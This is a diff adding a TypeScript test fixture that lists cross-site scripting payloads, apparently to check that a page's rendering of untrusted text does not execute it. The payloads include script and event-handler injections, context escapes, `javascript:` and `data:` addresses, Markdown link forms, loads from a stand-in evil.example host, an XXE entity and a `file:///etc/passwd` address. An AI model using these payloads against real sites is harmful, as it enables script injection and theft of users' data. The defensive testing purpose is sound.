@@ -1,0 +1,115 @@
+// Texts that would run code on a page that trusts them. Each calls `__xss()` or one of the dialogs a journey can hear, or asks a
+// foreign host for something; each leaves a sink of its own: an element, an attribute, an address, a script block, XML, Markdown.
+
+const elements = [
+  '<script>__xss()</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>__xss()</scr</script>ipt>',
+  '<script/x>alert(1)</script>',
+  '<img src=x onerror=__xss()>',
+  '<IMG SRC="x" ONERROR="__xss()">',
+  '<img/src=x/onerror=__xss()>',
+  '<img src=//evil.example/pixel.png>',
+  '<img srcset="//evil.example/a.png 1x">',
+  '<svg onload=__xss()>',
+  '<svg><script>__xss()</script></svg>',
+  '<svg><animate onbegin=__xss() attributeName=x dur=1s>',
+  '<svg><a xlink:href="javascript:__xss()"><text y=9>x</text></a></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x onload=__xss()>#x"></svg>',
+  '<math><a xlink:href="javascript:__xss()">x</a></math>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__xss()&gt;">',
+  '<iframe src="javascript:__xss()"></iframe>',
+  '<iframe srcdoc="<script>parent.__xss()</script>"></iframe>',
+  '<object data="javascript:__xss()"></object>',
+  '<embed src="javascript:__xss()">',
+  '<video><source onerror=__xss()></video>',
+  '<audio src=x onerror=__xss()>',
+  '<details open ontoggle=__xss()>x</details>',
+  '<input autofocus onfocus=__xss()>',
+  '<select autofocus onfocus=__xss()></select>',
+  '<body onload=__xss()>',
+  '<body onpageshow=__xss()>',
+  '<marquee onstart=__xss()>x</marquee>',
+  '<style>@import "//evil.example/x.css";</style>',
+  '<style onload=__xss()></style>',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<meta http-equiv=refresh content="0;url=//evil.example/">',
+  '<base href=//evil.example/>',
+  '<form action=javascript:__xss()><button autofocus>x</button></form>',
+  '<button formaction=javascript:__xss()>x</button>',
+  '<div style="background:url(//evil.example/x)">x</div>',
+  '<p style="animation-name:x" onanimationstart=__xss()>x</p>',
+  '<a href="javascript:__xss()">x</a>',
+  '<template><img src=x onerror=__xss()></template>',
+  '<img src=x onerror="&#95;&#95;xss()">',
+]
+
+/** Out of the place where the text stands: an attribute, the title, a script block, a comment, CDATA. */
+const escapes = [
+  '"><img src=x onerror=__xss()>',
+  `'><img src=x onerror=__xss()>`,
+  '" autofocus onfocus="__xss()" x="',
+  `' onmouseover='__xss()' x='`,
+  '</title><script>__xss()</script>',
+  '</script><script>__xss()</script>',
+  '</script ><svg onload=__xss()>',
+  '<!--<script>__xss()//-->',
+  '--><img src=x onerror=__xss()>',
+  '</textarea><img src=x onerror=__xss()>',
+  '</noscript><img src=x onerror=__xss()>',
+  '</style><img src=x onerror=__xss()>',
+  '</h1></header><img src=x onerror=__xss()>',
+  ']]><script xmlns="http://www.w3.org/1999/xhtml">__xss()</script>',
+  '<html:script xmlns:html="http://www.w3.org/1999/xhtml">__xss()</html:script>',
+  '<!DOCTYPE x [<!ENTITY e SYSTEM "//evil.example/x">]>&e;',
+  '"}</script><script>__xss()</script>',
+  '\\u003cimg src=x onerror=__xss()\\u003e',
+  '\u2028__xss()\u2029',
+  '&lt;img src=x onerror=__xss()&gt;',
+  '&amp;lt;img src=x onerror=__xss()&amp;gt;',
+  '＜img src=x onerror=__xss()＞',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of other languages, meant as it stands.
+  '${__xss()}{{constructor.constructor("__xss()")()}}',
+]
+
+/** Addresses that run code or leave the site when they become a link. */
+export const hostileAddresses = [
+  'javascript:__xss()',
+  'JaVaScRiPt:__xss()',
+  ' javascript:__xss()',
+  'java\tscript:__xss()',
+  'java\nscript:__xss()',
+  '\u0001javascript:__xss()',
+  'javascript&colon;__xss()',
+  '&#106;avascript:__xss()',
+  'javascript:%5f%5fxss()',
+  'javascript://https://a.example/%0a__xss()',
+  'data:text/html,<script>__xss()</script>',
+  'data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+',
+  'vbscript:__xss()',
+  'blob:https://evil.example/x',
+  'file:///etc/passwd',
+  'view-source:javascript:__xss()',
+  'https://a.example/" onmouseover="__xss()',
+  'https://a.example/?<script>__xss()</script>',
+]
+
+/** The same addresses in the forms Markdown has for links and pictures. */
+const markdownForms = [
+  (address: string) => `[x](${address})`,
+  (address: string) => `[x](<${address}>)`,
+  (address: string) => `![x](${address})`,
+  (address: string) => `<${address}>`,
+  (address: string) => `[x]\n\n[x]: ${address} "t"`,
+]
+const markdown = [
+  ...hostileAddresses.map((address, i) => markdownForms[i % markdownForms.length]?.(address) ?? ''),
+  '[x](//evil.example/x "t\\" onmouseover=\\"__xss()")',
+  '![x](x"onerror="__xss())',
+  '```"><script>__xss()</script>\n</code></pre><script>__xss()</script>\n```',
+  '# <img src=x onerror=__xss()> {#"onmouseover=__xss()}',
+  '| <img src=x onerror=__xss()> |\n| --- |\n| <svg onload=__xss()> |',
+  '`<img src=x onerror=__xss()>`',
+]
+
+export const hostileTexts: readonly string[] = [...elements, ...escapes, ...markdown]
